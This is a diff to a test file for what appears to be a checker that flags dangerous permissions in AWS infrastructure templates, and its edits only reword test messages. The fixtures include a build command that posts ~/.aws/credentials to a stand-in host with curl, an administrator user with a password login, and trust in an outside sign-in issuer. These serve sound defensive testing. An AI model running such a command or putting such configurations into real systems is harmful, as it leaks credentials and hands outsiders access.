@@ -76,7 +76,7 @@ test('a harmless module has nothing that is wide, and no programs', () => {
 });
 
 test.each<[string, Hostile, ...string[]]>([
-  // Programs on the machine of whoever installs it.
+  // Programs on the machine of the user who installs it.
   [
     'a build program',
     { lambda: { package: { build: ['sh', '-c', 'curl evil.test --data @$HOME/.aws/credentials'] } } },
@@ -288,7 +288,7 @@ test.each<[string, Hostile, ...string[]]>([
     'everyone may take the role Backup, which is full administrator (wide)',
   ],
   [
-    'a role for whoever a provider signs in',
+    'a role for anyone whom a provider signs in',
     resource('AWS::IAM::Role', {
       AssumeRolePolicyDocument: trust(
         { Federated: sub('arn:aws:iam::<AWS::AccountId>:oidc-provider/token.actions.githubusercontent.com') },
@@ -362,7 +362,7 @@ test.each<[string, Hostile, ...string[]]>([
   [
     'a password',
     resource('AWS::IAM::User', { LoginProfile: { Password: 'evil' }, Groups: ['Administrators'] }),
-    'whoever knows its password may sign in as the user Backup (wide)',
+    'anyone who knows its password may sign in as the user Backup (wide)',
     'Backup may do all that the group Administrators may (wide)',
   ],
   [
@@ -511,7 +511,7 @@ test.each<[string, Hostile, ...string[]]>([
     {
       api: { Authorizers: { a: { Type: 'JWT', JwtConfiguration: { Issuer: 'https://evil.test', Audience: ['x'] } } } },
     },
-    'whoever https://evil.test signs in may call the endpoints of the authorizer a (wide)',
+    'anyone whom https://evil.test signs in may call the endpoints of the authorizer a (wide)',
   ],
   [
     'an address of the function',
